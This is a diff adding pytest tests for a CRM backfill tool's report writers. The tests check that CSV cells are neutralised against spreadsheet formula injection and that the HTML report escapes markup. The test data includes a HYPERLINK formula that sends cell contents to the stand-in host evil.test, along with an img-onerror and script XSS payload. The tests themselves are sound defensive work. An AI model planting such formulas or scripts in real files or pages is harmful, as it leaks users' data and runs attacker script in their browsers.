@@ -11,9 +11,10 @@ from pathlib import Path
 
 import pytest
 
+from handlers.api import FieldError
 from handlers.intake.crm.mapping import load_field_map
-from ops.backfill.report import RowOutcome, write_errors_csv, write_html, write_outcomes_csv
-from ops.backfill.rows import read_rows
+from ops.backfill.report import RowOutcome, cell, write_errors_csv, write_html, write_outcomes_csv
+from ops.backfill.rows import Row, read_rows
 from ops.backfill.sample import BREAKS, make_rows, write_csv
 from tests.fakes import sample
 
@@ -105,6 +106,36 @@ def test_the_report_files_agree_and_escape_what_the_file_holds(tmp_path: Path) -
     with (tmp_path / "outcomes.csv").open() as outcomes:
         states = [row["state"] for row in csv.DictReader(outcomes)]
     assert (states.count("created"), states.count("invalid")) == (expected["created"], expected["invalid"])
+
+
+FORMULAS = ['=HYPERLINK("https://evil.test/?d="&A1,"Click")', "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path: Path) -> None:
+    # Issue 21, finding 6: a CRM's text (requestId, account id, a message quoting the row) opened in Excel.
+    rows = [
+        Row(number=i + 1, request_id=text, crm_account_id=text, errors=[FieldError(field=text, code="c", message=text)])
+        for i, text in enumerate(FORMULAS)
+    ]
+    outcomes = {row.number: RowOutcome("failed", row.request_id, row.request_id, row.request_id, row.request_id,
+                                       row.request_id) for row in rows}  # fmt: skip
+    write_errors_csv(rows, tmp_path / "errors.csv")
+    write_outcomes_csv(rows, outcomes, tmp_path / "outcomes.csv")
+    for name, columns in (("errors.csv", [1, 2, 3, 5]), ("outcomes.csv", [1, 2, 4, 5, 6, 7, 8])):
+        with (tmp_path / name).open(newline="", encoding="utf-8") as written:
+            lines = list(csv.reader(written))[1:]
+        assert [[line[c] for c in columns] for line in lines] == [["'" + text] * len(columns) for text in FORMULAS]
+        assert [line[0] for line in lines] == [str(i + 1) for i in range(len(FORMULAS))]  # numbers stay numbers
+    assert cell("crm-0001") == "crm-0001" and cell("") == "" and cell(-1) == -1
+
+
+def test_the_html_report_escapes_every_value_from_the_file_and_the_ledger(tmp_path: Path) -> None:
+    hostile = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
+    rows = [Row(number=1, request_id=hostile, errors=[FieldError(field=hostile, code=hostile, message=hostile)])]
+    write_html(rows, {1: RowOutcome("failed", reason=hostile)}, tmp_path / "report.html", source=hostile)
+    page = (tmp_path / "report.html").read_text()
+    assert "<img" not in page and "<script" not in page and '"><img' not in page  # no tag, no attribute left
+    assert page.count("&lt;script&gt;") >= 5  # title, file name, chart labels, the table's cells
 
 
 def test_the_html_report_shows_its_counts_in_a_real_headless_browser(tmp_path: Path) -> None:
